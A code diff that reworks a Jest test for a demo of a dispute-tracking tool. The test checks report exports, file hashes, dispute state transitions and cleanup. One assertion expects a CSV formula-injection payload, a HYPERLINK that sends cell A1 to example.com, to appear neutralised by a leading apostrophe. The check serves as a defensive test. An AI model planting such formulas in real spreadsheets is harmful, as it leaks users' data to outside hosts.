@@ -5,55 +5,57 @@ import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import { promisify } from "node:util";
 
-// A first start takes seven seconds, and much longer beside three other workers of jest on two cores.
+// A first start takes seven seconds, and much longer while other test files keep both cores busy.
 jest.setTimeout(150_000);
 
 const run = promisify(execFile);
-const DEMO = fileURLToPath(new URL("../dist/demo.js", import.meta.url));
+const DEMO_PROGRAM = fileURLToPath(new URL("../../dist/demo/main.js", import.meta.url));
 
-test("the demo exports every report in every format and walks a dispute through its life, through real processes", async () => {
-  const { stdout } = await run(process.execPath, [DEMO], {
-    // Away from any stack that may run in the repository's own .docket.
-    env: { PATH: process.env["PATH"], DOCKET_HOME: "/nonexistent/docket" },
+describe("npm run demo", () => {
+  it("exports every report in every format and takes a dispute through its lifecycle", async () => {
+    const { stdout } = await run(process.execPath, [DEMO_PROGRAM], {
+      // Otherwise the demo would use a stack that is running in the repository's own .docket.
+      env: { PATH: process.env["PATH"], DOCKET_HOME: "/nonexistent/docket" },
+    });
+    const [, files = "", disputed = ""] =
+      /^The 12 exports are in (.+), the dispute's files in (.+)$/m.exec(stdout) ?? [];
+    expect(stdout).toMatch(/^Done in [\d.]+ s\.$/m);
+
+    const entries = await readdir(files, { withFileTypes: true });
+    const names = entries.filter((entry) => entry.isFile()).map(({ name }) => name);
+    expect(names).toHaveLength(12);
+    for (const name of names) {
+      const bytes = await readFile(join(files, name));
+      const digest = createHash("sha256").update(bytes).digest("hex");
+      expect(stdout).toMatch(new RegExp(`${name} .* ${digest}  ok`));
+    }
+
+    const matched = (extension: string): Promise<string> => {
+      const name = names.find((each) => each.startsWith("MATCHED_") && each.endsWith(extension));
+      return readFile(join(files, name ?? ""), "utf8");
+    };
+    expect((JSON.parse(await matched(".json")) as unknown[]).length).toBeGreaterThan(40_000);
+    const csv = await matched(".csv");
+    expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""Open the invoice"")"`);
+
+    const states = stdout.matchAll(/^ {2}(?:opened|evidence \S+|closed|reopened) .* ([A-Z_]+)$/gm);
+    expect(Array.from(states, ([, state]) => state)).toEqual([
+      "OPEN",
+      "OPEN",
+      "PENDING_EVIDENCE",
+      "OPEN",
+      "LOST",
+      "OPEN",
+      "WON",
+    ]);
+    expect(stdout).toMatch(/^ {2}dispute_state {2}WON$/m);
+    const evidence = createHash("sha256").update(
+      await readFile(join(disputed, "bank-statement.csv")),
+    );
+    expect(stdout).toContain(`SHA-256 ok\n  ${evidence.digest("hex")}\n`);
+
+    // A demo that succeeds removes its home, with the database and the logs.
+    expect(await readdir(dirname(files))).toEqual(["files"]);
+    await rm(dirname(files), { recursive: true, force: true });
   });
-  const [, files = "", disputed = ""] =
-    /^All 12 exports are in (.+), and the dispute's files in (.+)$/m.exec(stdout) ?? [];
-  expect(stdout).toMatch(/^Done in [\d.]+ s\.$/m);
-
-  const entries = await readdir(files, { withFileTypes: true });
-  const names = entries.filter((entry) => entry.isFile()).map(({ name }) => name);
-  expect(names).toHaveLength(12);
-  for (const name of names) {
-    const bytes = await readFile(join(files, name));
-    const digest = createHash("sha256").update(bytes).digest("hex");
-    expect(stdout).toMatch(new RegExp(`${name} .* ${digest}  ok`));
-  }
-
-  const matched = (extension: string): Promise<string> => {
-    const name = names.find((each) => each.startsWith("MATCHED_") && each.endsWith(extension));
-    return readFile(join(files, name ?? ""), "utf8");
-  };
-  expect((JSON.parse(await matched(".json")) as unknown[]).length).toBeGreaterThan(40_000);
-  const csv = await matched(".csv");
-  expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""Open the invoice"")"`);
-
-  const states = stdout.matchAll(/^ {2}(?:opened|evidence \S+|closed|reopened) .* ([A-Z_]+)$/gm);
-  expect(Array.from(states, ([, state]) => state)).toEqual([
-    "OPEN",
-    "OPEN",
-    "PENDING_EVIDENCE",
-    "OPEN",
-    "LOST",
-    "OPEN",
-    "WON",
-  ]);
-  expect(stdout).toMatch(/^ {2}dispute_state {2}WON$/m);
-  const evidence = createHash("sha256").update(
-    await readFile(join(disputed, "bank-statement.csv")),
-  );
-  expect(stdout).toContain(`SHA-256 ok\n  ${evidence.digest("hex")}\n`);
-
-  // The home, with its database and logs, went with the demo.
-  expect(await readdir(dirname(files))).toEqual(["files"]);
-  await rm(dirname(files), { recursive: true, force: true });
 });
